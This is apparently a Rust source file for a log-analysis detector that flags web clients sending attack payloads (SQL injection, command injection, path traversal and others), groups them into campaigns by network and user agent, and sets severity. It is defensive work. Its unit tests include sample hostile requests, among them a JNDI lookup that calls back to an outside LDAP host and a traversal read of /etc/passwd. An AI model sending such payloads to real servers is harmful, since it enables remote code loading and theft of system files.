//! # Requests with attack payloads (`attack`)
//! ## Finds
//! Who sent requests that carry a payload (SQL, script, path traversal, commands, ...), how many, of which
//! classes, and one line of each class.
//! ## Why it matters
//! Whether or not one worked, the payloads say what was attempted and by whom; the exploit findings build on
//! it.
//! ## Decides
//! A request is an attack when its score in the rules is at least 5. By client: one finding each; from 20
//! attacks on medium, below low. More than 50 clients with 1 or 2 attacks each and no other sign: one low
//! finding for each class. By network, and by user agent with method: at least 3 clients with attacks of
//! which none has 70 % of them, at least 6 (network) or 20 (agent) attacks; an agent only where half of
//! its clients attack, with 3 attacks a client, 200 in all, or all within a day or a tenth of the log:
//! tools have the same agent everywhere, and the internet's background comes with them. Requests that
//! leave through a proxy count only from 20 attacks on and where they are a tenth of the client's
//! requests. What they try is read from the first request of each payload shape, at most 16: it decides
//! nothing. Hosts that are to be called back (`callback_hosts`) were not seen to be contacted.
//! ## Parameters
//! - `many` | 20 | requests | 5-1000 | beyond the internet's background (the contract's severity table)
//! - `few` | 2 | requests | 1-10 | a client with no more and no probes is background
//! - `max_named` | 50 | clients | 10-1000 | more background clients than a reader looks at one by one
//! - `min_group` | 3 | clients | 2-100 | a group of two is two addresses
//! - `min_network` | 6 | requests | 3-100 | two a client at least
//! - `dominance` | 0.7 | share | 0.5-1 | one address with this share is the finding
//! ## ATT&CK
//! Initial access: T1190 exploit public-facing application; reconnaissance: T1595.002 where a scanner sends
//! them (ATT&CK v17)
//! ## False positives
//! Search boxes about code, forums of programmers, advertising URLs that carry URLs: payload without the
//! grammar of an attack, one page, a referrer of the own site. Own penetration tests: ask who runs them.
//! ## Misses
//! Payloads in POST bodies and cookies that the log does not carry; new tricks without a known word. What
//! they try is read from target and user agent only.
//! ## Cost
//! Counts in the client's row; at most 500 lines a client in the second pass.
//! ## Sources
//! OWASP Core Rule Set 4 and libinjection for the classes; measurements in the documentation of the rules.

use super::tries::tries;
use crate::detect::actor::is_outgoing;
use crate::detect::header::header;
use crate::detect::{Detector, Draft, Finding, Meta, Severity, Site, Stage, Suspect};
use crate::detect::{count, counted, list, quote, span};
use crate::enrich::attack::{Class, ClassSet};
use crate::record::ClientKey;
use crate::table::{ClientRow, Event, Partition, Selector, merged};
use std::collections::BTreeMap;

/// Lines kept of one client, lines.
const MAX_EVENTS: usize = 500;

/// Classes, the most telling first.
pub(in crate::detect) const BY_WEIGHT: [Class; 22] = [
    Class::Cmdi,
    Class::CodeInjection,
    Class::Deserialisation,
    Class::Jndi,
    Class::Shellshock,
    Class::Cve,
    Class::Ssti,
    Class::Rfi,
    Class::Upload,
    Class::Sqli,
    Class::Lfi,
    Class::Xxe,
    Class::Ssrf,
    Class::Nosqli,
    Class::Ldapi,
    Class::Ssi,
    Class::Crlf,
    Class::Xss,
    Class::OpenRedirect,
    Class::Scanner,
    Class::Probe,
    Class::Other,
];

/// Names of classes, the most telling first.
pub(in crate::detect) fn class_names(classes: ClassSet) -> Vec<&'static str> {
    BY_WEIGHT.into_iter().filter(|c| classes.contains(*c)).map(Class::name).collect()
}

/// Parameters, as the header says them.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Params {
    pub(crate) many: u32,
    pub(crate) few: u32,
    pub(crate) max_named: usize,
    pub(crate) min_group: usize,
    pub(crate) min_network: u32,
    pub(crate) dominance: f64,
}

impl Params {
    pub(crate) const DEFAULT: Self =
        Self { many: 20, few: 2, max_named: 50, min_group: 3, min_network: 6, dominance: 0.7 };
}

pub(in crate::detect) struct Attack(pub(in crate::detect) Params);

static META: Meta = Meta {
    id: "attack",
    title: "Requests with attack payloads",
    stage: Stage::Attack,
    techniques: &["T1190", "T1595.002"],
    since: "0.1.0",
    needs: &["client_ip", "url_path", "url_query"],
    doc: header!(include_str!("attack.rs")),
};

/// Attacks of several clients under one key.
#[derive(Default)]
struct Campaign {
    clients: Vec<ClientKey>,
    n_attacks: u64,
    n_ok: u64,
    largest: u32,
    classes: ClassSet,
    first_s: u32,
    last_s: u32,
}

impl Campaign {
    fn add(&mut self, row: &ClientRow) {
        if self.clients.is_empty() {
            self.first_s = u32::MAX;
        }
        self.clients.push(row.client);
        self.n_attacks += u64::from(row.n_attacks);
        self.n_ok += u64::from(row.n_attacks_ok);
        self.largest = self.largest.max(row.n_attacks);
        self.classes = self.classes.union(row.classes);
        self.first_s = self.first_s.min(row.first_s);
        self.last_s = self.last_s.max(row.last_s);
    }
}

impl Attack {
    fn counts(&self, row: &ClientRow, site: &Site<'_>) -> bool {
        row.n_attacks > 0
            && site.may_accuse(row)
            && (!is_outgoing(row) || (row.n_attacks >= self.0.many && row.n_attacks >= row.n_requests / 10))
    }

    fn is_minor(&self, row: &ClientRow, n_probes: u32) -> bool {
        row.n_attacks <= self.0.few && n_probes < 3 && row.n_weak <= self.0.few
    }

    fn client(&self, row: &ClientRow, site: &Site<'_>) -> Suspect {
        let who = site.client_text(row.client);
        let mut draft = Draft::new(format!("client {who}"));
        draft.severity = if row.n_attacks >= self.0.many { Severity::Medium } else { Severity::Low };
        draft.rule = "payload";
        draft.clients.insert(row.client);
        draft.n_requests = u64::from(row.n_attacks);
        draft.set_span(row.first_s, row.last_s);
        draft.number("n_attacks", row.n_attacks);
        draft.number("n_attacks_answered_2xx", row.n_attacks_ok);
        draft.number("n_weak", row.n_weak);
        draft.number("n_requests_of_client", row.n_requests);
        draft.number("classes", class_names(row.classes).join(" ").as_str());
        draft.number("many", self.0.many);
        Suspect {
            rank: u64::from(row.n_attacks) + u64::from(row.n_attacks_ok),
            wants: vec![(Selector::ClientAttacks(row.client), MAX_EVENTS)],
            draft,
        }
    }

    fn campaign(&self, subject: String, who: &str, campaign: &Campaign) -> Suspect {
        let mut draft = Draft::new(subject);
        draft.severity =
            if campaign.n_attacks >= u64::from(self.0.many) { Severity::Medium } else { Severity::Low };
        draft.rule = "campaign";
        draft.clients = campaign.clients.iter().copied().collect();
        draft.n_requests = campaign.n_attacks;
        draft.set_span(campaign.first_s, campaign.last_s);
        draft.number("n_attacks", campaign.n_attacks);
        draft.number("n_attacks_answered_2xx", campaign.n_ok);
        draft.number("n_clients", campaign.clients.len());
        draft.number("classes", class_names(campaign.classes).join(" ").as_str());
        draft.statement = format!(
            "{who} sent {} with an attack payload ({}){}.",
            counted(campaign.n_attacks, "request"),
            list(&class_names(campaign.classes), 5),
            span(draft.first_us, draft.last_us),
        );
        let wants = draft.clients.iter().take(3).map(|c| (Selector::ClientAttacks(*c), MAX_EVENTS)).collect();
        Suspect { rank: campaign.n_attacks, wants, draft }
    }

    fn networks(&self, part: &Partition, site: &Site<'_>) -> Vec<Suspect> {
        let mut by_network: BTreeMap<ClientKey, Campaign> = BTreeMap::new();
        for row in part.clients.table.rows().iter().filter(|r| self.counts(r, site) && !r.client.is_name()) {
            by_network.entry(row.client.network()).or_default().add(row);
        }
        by_network
            .into_iter()
            .filter(|(_, c)| self.is_group(c) && c.n_attacks >= u64::from(self.0.min_network))
            .map(|(network, c)| {
                let name = network.network_text().unwrap_or_default();
                let who = format!("{} addresses of {name} together", c.clients.len());
                self.campaign(format!("network {name}"), &who, &c)
            })
            .collect()
    }

    fn is_group(&self, c: &Campaign) -> bool {
        c.clients.len() >= self.0.min_group && f64::from(c.largest) < self.0.dominance * c.n_attacks as f64
    }

    fn agents(&self, site: &Site<'_>) -> Vec<Suspect> {
        let mut by_agent: BTreeMap<u64, Campaign> = BTreeMap::new();
        for part in site.partitions {
            let rows = part.clients.table.rows();
            for usage in part.clients.uses() {
                let row = &rows[usage.client as usize];
                let is_main = usage.n_requests.saturating_mul(2) >= row.n_requests;
                if self.counts(row, site) && !row.is_clean && is_main {
                    by_agent.entry(usage.agent).or_default().add(row);
                }
            }
        }
        by_agent.retain(|_, c| {
            let first = c.clients[0].network();
            let is_one_network = c.clients.iter().all(|other| other.network() == first);
            self.is_group(c)
                && c.n_attacks >= u64::from(self.0.many)
                && !is_one_network
                && site.is_together(c.n_attacks, c.clients.len() as u64, [c.first_s, c.last_s])
        });
        let mut n_users: BTreeMap<u64, usize> = by_agent.keys().map(|agent| (*agent, 0)).collect();
        if !n_users.is_empty() {
            for usage in site.partitions.iter().flat_map(|p| p.clients.uses()) {
                if let Some(n) = n_users.get_mut(&usage.agent) {
                    *n += 1;
                }
            }
        }
        let mut suspects = Vec::new();
        for ((agent, c), n_users) in by_agent.into_iter().zip(n_users.into_values()) {
            if c.clients.len() * 2 < n_users {
                continue;
            }
            let part = &site.partitions[crate::table::partition(agent)];
            let Some(row) = part.agents.table.get(agent, agent) else { continue };
            let (method, text) = part.agents.text(row);
            let name = format!("{} as \"{}\"", quote(method, 16), quote(text, 80));
            let who = format!("{} clients that sent {name} together", count(c.clients.len() as u64));
            suspects.push(self.campaign(format!("agent {name}"), &who, &c));
        }
        suspects
    }

    /// Clients with a payload or two and no other sign: each named, or one line for each class where there are many.
    fn minor(&self, site: &Site<'_>) -> Vec<Suspect> {
        let mut rows = Vec::new();
        for (part, linked) in site.partitions.iter().zip(site.linked) {
            for (row, linked) in part.clients.table.rows().iter().zip(linked) {
                if row.n_attacks > 0 && self.counts(row, site) && self.is_minor(row, linked.n_probes) {
                    rows.push(row);
                }
            }
        }
        if rows.len() <= self.0.max_named {
            return rows.into_iter().map(|row| self.client(row, site)).collect();
        }
        let mut by_class: BTreeMap<Class, Campaign> = BTreeMap::new();
        rows.sort_unstable_by_key(|r| r.client);
        for row in rows {
            let class = BY_WEIGHT.into_iter().find(|c| row.classes.contains(*c)).unwrap_or(Class::Other);
            by_class.entry(class).or_default().add(row);
        }
        by_class
            .into_iter()
            .map(|(class, c)| {
                let who =
                    format!("{} with one or two attacks each", counted(c.clients.len() as u64, "client"));
                let mut suspect = self.campaign(format!("background {}", class.name()), &who, &c);
                suspect.draft.severity = Severity::Low;
                suspect.draft.rule = "background";
                suspect.draft.statement.push_str(" No other sign of them: the internet's background.");
                suspect.rank = 0;
                while suspect.draft.clients.len() > Draft::MAX_CLIENTS {
                    suspect.draft.clients.pop_last();
                }
                suspect
            })
            .collect()
    }
}

impl Detector for Attack {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn suspect(&self, index: usize, part: &Partition, site: &Site<'_>) -> Vec<Suspect> {
        let rows = part.clients.table.rows().iter().zip(&site.linked[index]);
        let mut suspects: Vec<Suspect> = rows
            .filter(|(row, linked)| self.counts(row, site) && !self.is_minor(row, linked.n_probes))
            .map(|(row, _)| self.client(row, site))
            .collect();
        suspects.extend(self.networks(part, site));
        if index == 0 {
            suspects.extend(self.agents(site));
            suspects.extend(self.minor(site));
        }
        suspects
    }

    fn conclude(&self, suspect: &Suspect, events: &[&[Event]], site: &Site<'_>) -> Vec<Finding> {
        let events = &merged(events);
        let mut draft = suspect.draft.clone();
        let attacks: Vec<&Event> = events.iter().filter(|e| e.verdict.is_attack()).collect();
        for class in BY_WEIGHT {
            if let Some(event) = attacks.iter().find(|e| e.verdict.classes.contains(class)) {
                draft.show(event);
            }
        }
        let mut pages: Vec<u64> = attacks.iter().map(|e| e.page).collect();
        pages.sort_unstable();
        pages.dedup();
        draft
            .pages
            .extend(attacks.iter().filter_map(|e| site.page(e.page)).map(|p| site.page_name(p)).take(200));
        if draft.rule == "payload" {
            let is_whole = events.len() < MAX_EVENTS;
            let times = |e: &&Event| (e.ts_us != i64::MIN).then_some(e.ts_us);
            if let Some(first) = attacks.iter().find_map(times) {
                draft.first_us = Some(first);
                draft.last_us = if is_whole { attacks.iter().filter_map(times).max() } else { draft.last_us };
            }
            draft.number("n_pages", pages.len());
            let tries = tries(&mut draft, &attacks, site);
            let who = draft.clients.iter().map(|c| site.client_text(*c)).next().unwrap_or_default();
            let classes = attacks.iter().fold(ClassSet::EMPTY, |set, e| set.union(e.verdict.classes));
            let row = draft.clients.first().and_then(|c| site.client(*c)).map(|(row, _)| *row);
            let classes = row.map_or(classes, |r| r.classes.union(classes));
            let n_ok = row.map_or(0, |r| u64::from(r.n_attacks_ok));
            draft.statement = format!(
                "{who} sent {} with an attack payload ({}) to {}{}{}{tries}; {} answered 2xx, which by itself proves nothing.",
                counted(draft.n_requests, "request"),
                list(&class_names(classes), 6),
                if is_whole { "" } else { "at least " },
                counted(pages.len() as u64, "page"),
                span(draft.first_us, draft.last_us),
                if n_ok == 1 { "1 was".to_owned() } else { format!("{} were", count(n_ok)) },
            );
        } else {
            tries(&mut draft, &attacks, site);
        }
        vec![draft.finish(&META)]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{Request, T0, TestSite, to_server};

    fn attack(i: u32, client: &'static str, class: Class) -> Request {
        to_server(T0 + i, client, "GET", format!("/p{}?id=1'", i % 3), 404).attack(class, 1, 3)
    }

    fn check(requests: Vec<Request>, want: &[(&str, Severity, u64)]) {
        let found = TestSite::new(requests).run(&Attack(Params::DEFAULT));
        let found: Vec<_> = found.iter().map(|f| (f.subject.as_str(), f.severity, f.n_requests)).collect();
        assert_eq!(found, want);
    }

    #[test]
    fn severity_follows_the_number() {
        let many = (0..20).map(|i| attack(i, "203.0.113.9", Class::Sqli));
        check(many.collect(), &[("client 203.0.113.9", Severity::Medium, 20)]);
        let few = (0..5).map(|i| attack(i, "203.0.113.9", Class::Sqli));
        check(few.collect(), &[("client 203.0.113.9", Severity::Low, 5)]);
        check(vec![attack(0, "203.0.113.9", Class::Xss)], &[("client 203.0.113.9", Severity::Low, 1)]);
        check(vec![attack(0, "::1", Class::Xss), to_server(T0, "203.0.113.9", "GET", "/", 200)], &[]);
    }

    #[test]
    fn one_line_of_each_class_the_most_telling_first() {
        let site = TestSite::new(vec![
            attack(0, "203.0.113.9", Class::Xss),
            attack(1, "203.0.113.9", Class::Sqli),
            attack(2, "203.0.113.9", Class::Cmdi),
            attack(3, "203.0.113.9", Class::Sqli),
        ]);
        let found = site.run(&Attack(Params::DEFAULT));
        assert_eq!(found[0].evidence.iter().map(|e| e.at.line).collect::<Vec<_>>(), [3, 2, 1]);
        assert_eq!(
            found[0].statement,
            "203.0.113.9 sent 4 requests with an attack payload (cmdi, sqli and xss) to 3 pages from \
             2020-01-01T12:00:00Z to 2020-01-01T12:00:03Z; 0 were answered 2xx, which by itself proves nothing."
        );
    }

    #[test]
    fn what_they_try_is_said() {
        let site = TestSite::new(vec![
            to_server(T0, "203.0.113.9", "GET", "/a?x=${jndi:ldap://198.51.100.7:99/a}", 404).attack(
                Class::Jndi,
                1,
                3,
            ),
            to_server(T0 + 1, "203.0.113.9", "GET", "/b?f=../../etc/passwd", 404).attack(Class::Lfi, 2, 3),
            to_server(T0 + 2, "203.0.113.9", "GET", "/b?f=../../etc/passwd", 404).attack(Class::Lfi, 2, 3),
        ]);
        let found = &site.run(&Attack(Params::DEFAULT))[0];
        let tries = "trying to call back to 198.51.100.7 and read /etc/passwd; 0 were answered";
        assert!(found.statement.contains(tries), "{}", found.statement);
        assert_eq!(found.callback_hosts.iter().collect::<Vec<_>>(), ["198.51.100.7"]);
        assert!(found.hosts.is_empty());
        assert_eq!(found.numbers["files"], "/etc/passwd".into());
        assert_eq!(found.numbers["n_payload_shapes"], 2u64.into());
    }

    #[test]
    fn campaigns_over_many_addresses() {
        let near = ["198.51.100.1", "198.51.100.2", "198.51.100.3"];
        let requests = near.iter().flat_map(|c| (0..3).map(|i| attack(i, c, Class::Sqli))).collect();
        let found = TestSite::new(requests).run(&Attack(Params::DEFAULT));
        assert!(found.iter().any(|f| f.subject == "network 198.51.100.0/24" && f.n_requests == 9));
        let far = ["198.51.100.1", "203.0.113.2", "192.0.2.3"];
        let requests = far.iter().flat_map(|c| (0..7).map(|i| attack(i, c, Class::Sqli))).collect();
        let found = TestSite::new(requests).run(&Attack(Params::DEFAULT));
        assert!(found.iter().any(|f| f.subject.starts_with("agent GET") && f.n_requests == 21));
    }

    #[test]
    fn background_is_one_line_for_each_class() {
        let names: Vec<&'static str> =
            (0..60).map(|i| &*Box::leak(format!("10.{i}.0.1").into_boxed_str())).collect();
        let requests = names.iter().map(|c| attack(0, c, Class::Xss)).collect();
        let found = TestSite::new(requests).run(&Attack(Params::DEFAULT));
        let low: Vec<_> = found.iter().filter(|f| f.rule == "background").collect();
        assert_eq!((low.len(), low[0].clients.len(), low[0].severity), (1, 60, Severity::Low));
        assert!(!found.iter().any(|f| f.rule == "payload"));
    }
}
